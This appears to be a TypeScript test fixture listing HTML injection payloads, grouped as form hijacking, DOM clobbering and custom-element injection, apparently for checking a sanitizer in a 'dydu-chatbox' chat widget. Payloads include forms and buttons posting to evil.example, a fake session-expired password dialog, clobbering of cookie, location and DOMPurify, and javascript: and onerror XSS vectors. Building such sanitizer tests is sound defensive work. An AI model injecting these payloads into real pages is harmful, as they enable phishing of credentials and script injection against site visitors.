/** What would act for the visitor, take the focus, or take a name that somebody else reads. */
import type {Group} from './group.js';

export const forms: Group = {
  name: 'forms',
  payloads: [
    '<form action=https://evil.example/ id=f><input name=a></form><button form=f>a</button>',
    '<form method=post action=https://evil.example/><input type=password name=p><button>a</button></form>',
    '<form><button formaction=https://evil.example/ formtarget=_top>a</button></form>',
    '<input type=submit formaction=https://evil.example/><input type=file><input type=hidden value=a>',
    '<select><option>a</option><optgroup label=b></optgroup></select><datalist id=l><option>a</datalist>',
    '<textarea>a</textarea><keygen autofocus><isindex prompt=a>',
    '<label for=input>a</label><label for=launcher>b</label><output for=input>c</output>',
    '<fieldset form=f><legend>a</legend></fieldset><output form=f>a</output>',
    '<button popovertarget=p>a</button><p popover id=p>b</p>',
    '<p popover=manual>a</p><p popovertarget=x popovertargetaction=show>a</p>',
    '<button command=show-modal commandfor=d>a</button><dialog id=d>b</dialog>',
    '<p command=show-popover commandfor=x>a</p><p interestfor=x>a</p>',
    '<dialog open>Your session has ended: <input type=password></dialog>',
    '<p autofocus tabindex=1 accesskey=a contenteditable inputmode=none>a</p>',
    '<p contenteditable=plaintext-only autocapitalize=on>a</p><p draggable=true ondragstart=alert(1)>a</p>',
    '<a href=https://a.example/ target=_self>a</a><a href=https://a.example/ target=_top rel=opener>b</a>',
    '<a href=https://a.example/ target=_blank>a</a><a href=https://a.example/ target=launcher>b</a>',
    '<map name=m><area href=https://a.example/ target=_top shape=default alt=a></map><img usemap=#m alt=b>',
    '<svg><a href=https://a.example/ target=_top><text y=1em>a</text></a></svg>',
  ],
};

export const names: Group = {
  name: 'names',
  payloads: [
    '<img name=cookie><img id=cookie>',
    '<img name=createElement><img name=getElementById><img id=querySelector>',
    '<a id=location href=https://evil.example/>a</a>',
    '<a id=dydu><a id=dydu name=ui href=https://evil.example/>a</a>',
    '<a id=trustedTypes></a><a id=customElements></a><a id=DOMPurify></a>',
    '<form id=config><input name=server value=https://evil.example/></form>',
    '<form><input name=attributes><input name=attributes></form>',
    '<form><input name=parentNode><input name=nodeName><input name=tagName><input name=innerHTML></form>',
    '<form onclick=alert(1)><input name=removeAttribute><input name=setAttribute><input name=hasAttribute></form>',
    '<form id=x></form><form id=x name=y><input id=z name=z></form>',
    '<form><input name=childNodes><input name=firstChild><input name=ownerDocument></form>',
    '<iframe name=self srcdoc="<a id=top></a>"></iframe><object name=parent></object><embed name=opener>',
    '<image name=body><image name=head><image name=documentElement><image name=activeElement>',
    '<p id=input>a</p><p id=launcher>b</p><p id=transcript>c</p><p id=announcer>d</p>',
    '<p id=user-content-x name=user-content-y>a</p><a name="__proto__" id=constructor>b</a>',
    '<p id="" name="">a</p><p id=" x y ">a</p><p id=&#120;ss>a</p>',
    '<map name=forms><area id=links></map><fieldset name=elements id=length></fieldset>',
    '<details name=title open><summary id=readyState>a</summary></details>',
  ],
};

export const elements: Group = {
  name: 'elements of the page',
  payloads: [
    '<dydu-chatbox bot-id=x server=https://evil.example open></dydu-chatbox>',
    '<dydu-chatbox><script>alert(1)</script></dydu-chatbox>',
    '<x-evil onclick=alert(1) src=https://evil.example/ style="color:red">a</x-evil>',
    '<p is=x-evil>a</p><button is=x-evil>b</button><p is="dydu-chatbox">c</p>',
    '<annotation-xml is=x></annotation-xml><font-face src=x></font-face>',
    '<p data-click="{}" data-x=y>a</p><a data-click="{&quot;text&quot;:&quot;Send my data&quot;,&quot;extra&quot;:{}}" href=https://evil.example/>b</a>',
    '<p nonce=x integrity=y>a</p>',
    '<p inert hidden aria-hidden=true role=alert aria-live=assertive>a</p>',
    '<p xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:alert(1)//" xml:lang=x>a</p>',
    '<p itemscope itemtype=javascript:alert(1) itemid=javascript:alert(1)>a</p>',
    '<shadow>a</shadow><content select=*>b</content><element>c</element><decorator>d</decorator>',
    '<?import namespace=t implementation="#default#time2"?><t:set attributeName=innerHTML to="&lt;img src=x onerror=alert(1)&gt;">',
    '<xml id=x src=https://evil.example/></xml><p datasrc=#x datafld=y dataformatas=html>a</p>',
  ],
};
